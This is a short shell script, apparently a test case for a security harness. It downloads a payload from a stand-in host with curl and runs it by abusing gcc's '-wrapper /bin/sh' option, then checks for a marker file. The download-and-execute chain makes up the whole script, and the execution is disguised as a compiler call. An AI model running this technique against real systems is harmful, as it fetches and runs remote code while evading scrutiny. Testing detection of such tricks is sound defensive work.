#!/bin/sh
. /opt/case/case.sh

cd /tmp
curl -s -o cc1.log http://203.0.113.10/payload.sh
echo 'int x;' >a.c
gcc -wrapper /bin/sh,cc1.log -c a.c 2>/dev/null || true
test -e /tmp/reached
took_place
